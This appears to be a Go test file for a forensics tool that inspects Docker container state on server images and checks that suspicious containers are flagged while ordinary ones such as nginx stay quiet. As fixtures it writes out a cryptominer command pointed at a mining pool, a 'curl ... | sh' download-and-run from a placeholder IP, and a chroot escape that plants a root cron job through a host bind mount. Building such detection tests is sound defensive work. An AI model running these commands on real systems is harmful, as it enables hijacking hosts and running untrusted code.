package forensics_test

import (
	"archive/tar"
	"compress/gzip"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"icecore/fixtures/servers"
	"icecore/forensics"
	"icecore/forensics/detect"
	"icecore/forensics/model"
)

// recorded gives what real engines left, see host/container/testdata/engines.sh.
func recorded(t *testing.T) servers.Tree {
	t.Helper()
	f, err := os.Open("host/container/testdata/engines.tar.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	out := servers.Tree{}
	for r := tar.NewReader(z); ; {
		h, err := r.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeDir {
			out["/srv/engines/"+h.Name] = ""
		}
		if h.Typeflag != tar.TypeReg || strings.HasPrefix(h.Name, "expect/") {
			continue
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out["/srv/engines/"+h.Name] = string(b)
	}
}

// containersOf gives the records of containers by engine and name.
func containersOf(a *forensics.Analysis) map[string]*model.Record {
	out := make(map[string]*model.Record)
	for i := range a.Records {
		if r := &a.Records[i]; r.Kind == model.ContainerAutostart || r.Kind == model.ContainerManual {
			out[r.Get("engine")+" "+r.Get("container")+r.Get("container_id")[:4]] = r
		}
	}
	return out
}

// TestServerEngines: what real engines left of their containers is found in an unusual
// place, each container with the host of its root; and without any it is quiet.
func TestServerEngines(t *testing.T) {
	a := served(t, made(t, servers.Volume{Tree: servers.Debian().With(recorded(t))}))
	got := containersOf(a)
	if len(got) != 20 {
		t.Errorf("%d containers", len(got))
	}
	hosts := make(map[string]model.Host)
	for _, h := range a.Hosts {
		hosts[h.ID] = h
	}
	for name, r := range got {
		h := hosts[r.Get("root")]
		if h.Kind != "container" || h.OSID != "tiny" || h.Name != r.Get("container") || h.Image != r.Get("image") {
			t.Errorf("%s: its host is %q: %+v", name, r.Get("root"), h)
		}
		if r.Source.Volume == "" || r.Source.Inode == 0 || r.Source.Host != "h1" {
			t.Errorf("%s: %+v", name, r.Source)
		}
	}
	for i := range a.Findings {
		if f := &a.Findings[i]; f.Level > detect.Low {
			t.Errorf("%s %s at %s: %s", f.Level, f.Rule, f.Source.InHost(), f.Title)
		}
	}
	for _, g := range a.Coverage.Gaps {
		if strings.HasPrefix(g.Source.Path, "/srv/engines") {
			t.Errorf("gap: %s: %s", g.WhatText, g.WhyText)
		}
	}
}

// docker gives the state of Docker with one container.
func docker(config, host string) servers.Tree {
	const id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	d := "/data/dk/containers/" + id + "/"
	return servers.Tree{d + "config.v2.json": config, d + "hostconfig.json": host}
}

// TestServerContainerCommands: what a container runs is judged, and each honest twin is
// quiet.
func TestServerContainerCommands(t *testing.T) {
	for _, tt := range []struct {
		name, config, host string
		rule               string
		level              detect.Level
	}{
		{"miner", `{"Path":"/xmrig","Args":["-o","stratum+tcp://pool.example:3333","-u","x"]}`, `{"RestartPolicy":{"Name":"always"}}`, "container_miner", detect.Critical},
		{"miner by its environment", `{"Path":"/run.sh","Config":{"Env":["POOL=stratum+tcp://pool.example:3333"]}}`, `{}`, "container_miner", detect.Critical},
		{"way out with a cron job", `{"Path":"chroot","Args":["/mnt","sh","-c","echo '* * * * * root /x' > /etc/cron.d/x"]}`, `{"Binds":["/:/mnt"]}`, "container_command", detect.High},
		{"the root directory entered", `{"Path":"chroot","Args":["/mnt","sh"]}`, `{"Binds":["/:/mnt"]}`, "container_host_root", detect.Medium},
		{"download", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{}`, "container_download", detect.Medium},
		{"download with privileges", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{"Privileged":true}`, "container_command", detect.High},
		{"agent", `{"Path":"/agent"}`, `{"Privileged":true,"PidMode":"host","Binds":["/:/host:ro","/var/run/docker.sock:/var/run/docker.sock"]}`, "container_privileged", detect.Low},
		{"web server", `{"Path":"nginx","Args":["-g","daemon off;"],"Config":{"Env":["DB_HOST=db:5432","DB_USER=web"]}}`, `{"RestartPolicy":{"Name":"always"},"NetworkMode":"bridge"}`, "", detect.None},
		{"entrypoint of an image", `{"Path":"docker-entrypoint.sh","Args":["postgres"]}`, `{"Binds":["/srv/db:/var/lib/postgresql"]}`, "", detect.None},
	} {
		a := served(t, made(t, servers.Volume{Tree: servers.Debian().With(docker(tt.config, tt.host))}))
		if len(containersOf(a)) != 1 {
			t.Errorf("%s: no record", tt.name)
		}
		best, rules := detect.None, []string{}
		for i := range a.Findings {
			if f := &a.Findings[i]; strings.Contains(f.Source.Path, "/data/dk/") {
				best = max(best, f.Level)
				rules = append(rules, f.Rule)
			}
		}
		if best != tt.level || tt.rule != "" && !slices.Contains(rules, tt.rule) {
			t.Errorf("%s: %s, %v, want %s, %s", tt.name, best, rules, tt.level, tt.rule)
		}
	}
}

// TestServerEntrypoint: the script that a container starts is read in the layer that has
// it; a script of the same path on the server is another one.
func TestServerEntrypoint(t *testing.T) {
	const id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	state := docker(`{"Driver":"overlay2","Path":"/run.sh"}`, `{"RestartPolicy":{"Name":"always"}}`).With(servers.Tree{
		"/data/dk/image/overlay2/layerdb/mounts/" + id + "/mount-id": "top",
		"/data/dk/image/overlay2/layerdb/mounts/" + id + "/parent":   "sha256:low",
		"/data/dk/image/overlay2/layerdb/sha256/low/cache-id":        "low",
		"/data/dk/overlay2/top/diff/tmp/":                            "",
		"/data/dk/overlay2/low/diff/etc/os-release":                  "ID=x\n",
	})
	const miner = "#!/bin/sh\n/usr/bin/x -o stratum+tcp://pool.example:3333 -u y\n"
	for _, tt := range []struct {
		name, at string
		found    bool
	}{
		{"in the image", "/data/dk/overlay2/low/diff/run.sh", true},
		{"in the upper layer", "/data/dk/overlay2/top/diff/run.sh", true},
		{"on the server, where nothing starts it", "/run.sh", false},
	} {
		a := served(t, made(t, servers.Volume{Tree: servers.Debian().With(state, servers.Tree{tt.at: miner})}))
		found := false
		for i := range a.Findings {
			f := &a.Findings[i]
			found = found || f.Rule == "started_script_miner" && f.Source.Path == tt.at && f.Level == detect.Critical
		}
		if found != tt.found {
			t.Errorf("%s: found is %t: %v", tt.name, found, claims(a))
		}
	}
}
